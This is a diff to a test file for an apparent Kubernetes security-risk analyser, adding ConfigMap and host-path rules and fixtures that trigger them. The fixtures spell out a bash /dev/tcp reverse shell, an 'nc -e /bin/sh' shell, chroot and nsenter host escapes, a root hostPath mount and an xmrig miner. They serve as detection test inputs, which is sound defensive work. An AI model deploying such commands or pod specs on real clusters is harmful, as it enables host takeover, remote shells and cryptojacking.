@@ -1,10 +1,12 @@
 import assert from 'node:assert/strict';
 import { ROLE_RULES, readRole } from '../../../../src/subjects/risks/clusterrole.js';
+import { CONFIGMAP_RULES, readConfigMap } from '../../../../src/subjects/risks/configmap.js';
 import { analyseRisks } from '../../../../src/subjects/risks/index.js';
 import { INGRESS_RULES, readIngress } from '../../../../src/subjects/risks/ingress.js';
 import { NAMESPACE_RULES, readNamespace } from '../../../../src/subjects/risks/namespace.js';
 import { readPod } from '../../../../src/subjects/risks/pod.js';
 import { WORKLOAD_RULES } from '../../../../src/subjects/risks/workload.js';
+import { WORKLOAD_PATH_RULES } from '../../../../src/subjects/risks/workload-paths.js';
 import { loadAll } from '../../support/fixtures.js';
 import {
   cleanContainer,
@@ -54,9 +56,10 @@ function runRules(obj: Obj): void {
     for (const r of INGRESS_RULES) r.check({ ...readIngress(obj), serviceExists: () => false });
   else if (kind === 'ClusterRole' || kind === 'Role') for (const r of ROLE_RULES) r.check(readRole(obj));
   else if (kind === 'Namespace') for (const r of NAMESPACE_RULES) r.check(readNamespace(obj));
+  else if (kind === 'ConfigMap') for (const r of CONFIGMAP_RULES) r.check(readConfigMap(obj));
   else {
     const view = readPod(obj);
-    if (view) for (const r of WORKLOAD_RULES) r.check(view);
+    if (view) for (const r of [...WORKLOAD_RULES, ...WORKLOAD_PATH_RULES]) r.check(view);
   }
 }
 
@@ -94,6 +97,30 @@ const everything = pod(
 
 const BASES: Obj[] = [
   everything,
+  pod(
+    cleanPodSpec({
+      automountServiceAccountToken: true,
+      volumes: [{ name: 'root', hostPath: { path: '/' } }],
+      containers: [
+        cleanContainer(
+          'app',
+          {
+            command: ['sh', '-c', 'chroot /r sh; nsenter -t 1 sh; bash -i >& /dev/tcp/h/1 0>&1'],
+            args: ['xmrig', '-o', 'stratum+tcp://h:1'],
+            env: [{ name: 'P', value: 'nc -e /bin/sh h 1' }],
+            volumeMounts: [{ name: 'root', mountPath: '/r' }],
+          },
+          { allowPrivilegeEscalation: true },
+        ),
+      ],
+    }),
+  ),
+  {
+    apiVersion: 'v1',
+    kind: 'ConfigMap',
+    metadata: { name: 'ingress-nginx-controller' },
+    data: { 'allow-snippet-annotations': 'true', 'annotations-risk-level': 'Critical' },
+  },
   workload('CronJob', cleanPodSpec({ hostPID: true })),
   role(
     [
@@ -178,6 +205,22 @@ describe('risk rules on odd shapes', () => {
           ],
         }),
       ),
+      pod(
+        cleanPodSpec({
+          containers: [
+            cleanContainer('app', {
+              command: ['sh', '-c', `bash -i >& /dev/tcp/${secret}/1 0>&1; xmrig -u ${secret}`],
+              env: [{ name: 'POOL', value: `stratum+tcp://${secret}:3333` }],
+            }),
+          ],
+        }),
+      ),
+      {
+        apiVersion: 'v1',
+        kind: 'ConfigMap',
+        metadata: { name: 'c' },
+        data: { 'allow-snippet-annotations': 'true', other: secret },
+      },
     ];
     for (const obj of objs) {
       const risks = analyseRisks(obj);
